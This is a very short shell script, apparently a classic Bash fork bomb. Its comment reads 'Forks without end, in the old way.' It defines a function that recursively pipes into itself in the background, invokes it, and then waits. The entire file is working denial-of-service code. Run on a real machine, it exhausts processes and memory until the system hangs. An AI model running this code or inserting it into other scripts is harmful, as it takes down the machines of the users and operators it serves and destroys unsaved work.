# Forks without end, in the old way.
bomb() { bomb | bomb & }
bomb
wait
sleep 5
